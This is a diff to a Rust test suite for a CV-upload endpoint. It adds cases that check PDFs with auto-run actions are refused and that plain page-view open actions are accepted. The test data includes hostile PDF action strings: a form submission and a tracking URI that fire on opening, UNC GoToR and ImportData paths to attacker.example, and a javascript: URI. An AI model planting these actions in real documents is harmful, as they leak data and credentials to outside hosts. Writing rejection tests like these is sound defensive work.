@@ -726,6 +726,31 @@ async fn hostile_or_broken_pdfs_are_refused_on_the_file_field_and_nothing_is_sto
             "fillable form",
         ),
         (
+            "form sent on opening",
+            one_page_pdf("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>", "", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "file on another machine (UNC) on opening",
+            one_page_pdf(r"/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\cv.pdf) /D [0 /Fit] >>", "", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "data imported on opening",
+            one_page_pdf("/OpenAction 4 0 R", "", &[r"<< /S /ImportData /F (\\\\attacker.example\\x.fdf) >>"]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "javascript: address on opening",
+            one_page_pdf("/OpenAction << /S /URI /URI (javascript:app.alert(1)) >>", "", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
+            "page action",
+            one_page_pdf("", "/AA << /O << /S /URI /URI (https://track.example/) >> >>", &[]),
+            "does something by itself when it is opened",
+        ),
+        (
             "encrypted",
             pdf(
                 &[
@@ -757,6 +782,19 @@ async fn hostile_or_broken_pdfs_are_refused_on_the_file_field_and_nothing_is_sto
             started.elapsed()
         );
         assert_nothing_stored(&app, case);
+    }
+}
+
+#[tokio::test]
+async fn a_pdf_opening_on_a_page_view_is_accepted() {
+    for catalog in [
+        "/OpenAction [3 0 R /Fit]",
+        "/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>",
+    ] {
+        let app = app();
+        let sent = one_page_pdf(catalog, "", &[]);
+        let response = post_application(&app, &with_application(file("cv.pdf", sent))).await;
+        assert_eq!(response.status(), 201, "{catalog}: {}", json(&response));
     }
 }
 
